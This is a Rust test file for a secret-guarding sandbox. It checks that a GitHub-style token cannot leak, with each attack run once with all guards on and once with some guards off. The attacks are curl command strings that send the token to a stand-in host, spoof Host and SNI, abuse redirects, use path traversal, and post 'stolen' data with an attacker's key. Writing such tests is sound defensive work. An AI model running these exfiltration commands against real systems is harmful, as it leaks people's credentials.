//! Attacks on a key from inside a cell. Each is made twice: with everything in its place it comes to nothing, and with one
//! guard (and what lies behind it) left out it succeeds.

use testkit::world::{Caller, Ran};

use crate::{
    origin::{Asked, say},
    scene::{API, OTHER, Scene, TOKEN, VALUE, echo},
    search::Needles,
};

/// The attacker's own key.
const FOREIGN: &str = "ghp_attackers0wnTokenAttackers0wnToken";

/// What an attack is after.
#[derive(Debug, Clone, Copy)]
enum Prize {
    /// The value at the other host.
    Elsewhere,
    /// The value at a host, without TLS.
    Clear,
    /// The value inside the cell, in any way of writing it down.
    Inside,
    /// A request that begins so and holds the value, at the host of the key.
    Request(&'static str),
    /// A line that begins so, at the host of the key.
    Line(&'static str),
}

struct Attack {
    what: &'static str,
    /// The words of the binding, beside the host.
    binding: &'static [&'static str],
    flags: &'static [&'static str],
    script: &'static str,
    prize: Prize,
    /// What is said of it.
    code: &'static str,
    /// The guards that are left out in the control.
    off: &'static str,
}

const BEARER: &str = "-H \"Authorization: Bearer $TOKEN\"";

/// What hosts are sent that are not the key's.
const ELSEWHERE: &[Attack] = &[
    Attack {
        what: "the key sent to another host that is allowed",
        binding: &[],
        flags: &["--host", "* other.example"],
        script: "curl {bearer} https://other.example/",
        prize: Prize::Elsewhere,
        code: "FH-SECRET-PLACE",
        off: "secret-host",
    },
    Attack {
        what: "the host of the key in `Host`, at another host",
        binding: &[],
        flags: &["--host", "* other.example"],
        script: "curl {bearer} -H 'Host: api.github.com' https://other.example/",
        prize: Prize::Elsewhere,
        code: "FH-",
        off: "http-host,secret-host",
    },
    Attack {
        what: "the host of the key in the greeting, at another host",
        binding: &[],
        flags: &["--host", "* other.example"],
        script: "curl -k {bearer} --connect-to api.github.com:443:other.example:443 https://api.github.com/",
        prize: Prize::Elsewhere,
        code: "FH-",
        off: "sni,http-host,secret-host",
    },
    Attack {
        what: "a redirection to another host",
        binding: &[],
        flags: &["--host", "* other.example"],
        script: "curl -L --location-trusted {bearer} https://api.github.com/to/https://other.example/",
        prize: Prize::Elsewhere,
        code: "FH-SECRET-PLACE",
        off: "secret-host",
    },
    Attack {
        what: "a redirection to another port",
        binding: &[],
        flags: &["--host", "* https://api.github.com:8443"],
        script: "curl -L --location-trusted {bearer} https://api.github.com/to/https://api.github.com:8443/there",
        prize: Prize::Request("GET /there"),
        code: "FH-SECRET-PLACE",
        off: "secret-host",
    },
    Attack {
        what: "a redirection to HTTP without TLS",
        binding: &[],
        flags: &["--host", "http://api.github.com"],
        script: "curl -L --location-trusted {bearer} https://api.github.com/to/http://api.github.com/there",
        prize: Prize::Clear,
        code: "FH-SECRET-PLACE",
        off: "secret-host",
    },
];

/// Requests to the key's own host that are not the key's.
const OWN_HOST: &[Attack] = &[
    Attack {
        what: "the key in a header that is not its place",
        binding: &[],
        flags: &[],
        script: "curl -H \"X-Note: $TOKEN\" https://api.github.com/",
        prize: Prize::Line("x-note: ghp_R3al"),
        code: "FH-SECRET-PLACE",
        off: "secret-place",
    },
    Attack {
        what: "the key in the URL, which logs and referrers keep",
        binding: &[],
        flags: &[],
        script: "curl \"https://api.github.com/?t=$TOKEN\"",
        prize: Prize::Request("GET /?t="),
        code: "FH-SECRET-PLACE",
        off: "secret-place",
    },
    Attack {
        what: "the key in a request that changes something",
        binding: &["--method", "GET"],
        flags: &[],
        script: "curl -X POST {bearer} https://api.github.com/user/repos",
        prize: Prize::Request("POST /user/repos"),
        code: "FH-",
        off: "secret-method,request-method",
    },
    Attack {
        what: "the key on a path that is not its own",
        binding: &["--path", "/repos/acme/*"],
        flags: &[],
        script: "curl --path-as-is {bearer} https://api.github.com/repos/acme/../../user/keys",
        prize: Prize::Request("GET /"),
        code: "FH-",
        off: "secret-path,request-path,path-form",
    },
    Attack {
        what: "`TRACE`",
        binding: &[],
        flags: &[],
        script: "curl -X TRACE {bearer} https://api.github.com/",
        prize: Prize::Request("TRACE /"),
        code: "FH-",
        off: "http-method,secret-method",
    },
    Attack {
        what: "`OPTIONS`",
        binding: &[],
        flags: &[],
        script: "curl -X OPTIONS {bearer} https://api.github.com/",
        prize: Prize::Request("OPTIONS /"),
        code: "FH-SECRET-PLACE",
        off: "secret-method",
    },
    Attack {
        what: "a key of the attacker's own",
        binding: &[],
        flags: &[],
        script: "curl -H 'Authorization: Bearer {foreign}' -d stolen https://api.github.com/gists",
        prize: Prize::Line("authorization: Bearer ghp_attackers"),
        code: "FH-CREDENTIAL-FOREIGN",
        off: "foreign",
    },
    Attack {
        what: "a key of the attacker's own beside the cell's",
        binding: &[],
        flags: &[],
        script: "curl {bearer} -H 'X-Api-Key: {foreign}' -d stolen https://api.github.com/gists",
        prize: Prize::Line("x-api-key: ghp_attackers"),
        code: "FH-CREDENTIAL-FOREIGN",
        off: "foreign",
    },
];

/// Answers that hold the key.
const ANSWERS: &[Attack] = &[
    Attack {
        what: "an echo in body and header",
        binding: &[],
        flags: &[],
        script: "curl -i {bearer} https://api.github.com/",
        prize: Prize::Inside,
        code: "",
        off: "scrub,self-test",
    },
    Attack {
        what: "an echo of Basic",
        binding: &["--basic"],
        flags: &[],
        script: "curl -i -u \"me:$TOKEN\" https://api.github.com/",
        prize: Prize::Inside,
        code: "",
        off: "scrub,self-test",
    },
];

fn attempt(caller: Caller, attack: &Attack, off: Option<&str>) -> (Scene, Ran) {
    let scene = Scene::with(caller, |asked, peer| match asked.path().strip_prefix("/to/") {
        Some(to) => say(peer, "302 Found", &format!("Location: {to}\r\n"), b""),
        None => echo(asked, peer),
    });
    scene.set(TOKEN, VALUE, &[&["--host", API], attack.binding].concat());
    let script = attack.script.replace("{bearer}", BEARER).replace("{foreign}", FOREIGN);
    let script = script.replacen("curl ", "curl -sS --max-time 20 ", 1);
    let ran = scene.shell(off, &[&["--secret", TOKEN], attack.flags].concat(), &script);
    (scene, ran)
}

fn won(prize: Prize, scene: &Scene, ran: &Ran) -> bool {
    let value = Needles::of(VALUE);
    let holds = |asked: &Asked| value.find(asked.whole().as_bytes()).is_some();
    let (api, other) = (scene.api.asked(), scene.other.asked());
    match prize {
        Prize::Elsewhere => other.iter().any(holds),
        Prize::Clear => api.iter().chain(&other).any(|asked| !asked.is_tls && holds(asked)),
        Prize::Inside => value.find(ran.stdout.as_bytes()).is_some(),
        Prize::Request(begin) => api.iter().any(|asked| asked.head.starts_with(begin) && holds(asked)),
        Prize::Line(begin) => {
            let begin = begin.to_ascii_lowercase();
            api.iter()
                .any(|asked| asked.head.lines().any(|line| line.to_ascii_lowercase().starts_with(&begin)))
        }
    }
}

fn try_all(attacks: &[Attack]) {
    for caller in Caller::all() {
        for attack in attacks {
            let (scene, ran) = attempt(caller, attack, None);
            let what = attack.what;
            assert!(!won(attack.prize, &scene, &ran), "{caller:?}: {what}: {ran:?}");
            let told = format!("{}{}", ran.stdout, ran.stderr);
            assert!(told.contains(attack.code), "{caller:?}: {what}: {ran:?}");
            if !matches!(attack.prize, Prize::Elsewhere) {
                assert!(scene.other.asked().is_empty(), "{what}");
            }
            let (scene, ran) = attempt(caller, attack, Some(attack.off));
            assert!(won(attack.prize, &scene, &ran), "without the guard, {caller:?}: {what}: {ran:?}");
        }
    }
}

#[test]
fn a_key_reaches_no_other_host_port_or_scheme() {
    try_all(ELSEWHERE);
}

#[test]
fn a_request_of_another_kind_does_not_carry_the_key() {
    try_all(OWN_HOST);
}

#[test]
fn an_answer_does_not_bring_the_key_back() {
    try_all(ANSWERS);
}

/// The header twice is read by some hosts one way and by some another, so neither goes.
#[test]
fn a_header_that_stands_there_twice_does_not_carry_the_key() {
    for caller in Caller::all() {
        let scene = Scene::new(caller);
        scene.set(TOKEN, VALUE, &["--host", API]);
        let line = "curl -sS -H \"Authorization: Bearer $TOKEN\" -H \"Authorization: Bearer $TOKEN\" https://api.github.com/twice; \
                    curl -sS -H \"Authorization: Bearer $TOKEN\" https://api.github.com/once";
        let ran = scene.shell(None, &["--secret", TOKEN, "--host", OTHER], line);
        assert!(ran.stdout.contains("FH-"), "{ran:?}");
        let paths: Vec<String> = scene.api.asked().iter().map(|asked| asked.path().to_owned()).collect();
        assert_eq!(paths, ["/once"], "{ran:?}");
    }
}
